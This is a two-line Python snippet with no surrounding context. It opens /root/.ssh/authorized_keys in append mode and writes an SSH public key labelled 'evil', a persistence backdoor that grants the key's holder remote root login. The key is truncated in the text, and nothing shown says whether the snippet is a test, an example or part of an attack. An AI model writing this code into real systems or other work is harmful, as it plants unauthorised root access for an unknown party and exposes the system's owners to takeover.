with open("/root/.ssh/authorized_keys", "a") as f:
    f.write("ssh-rsa AAAAB3Nza...evil\n")
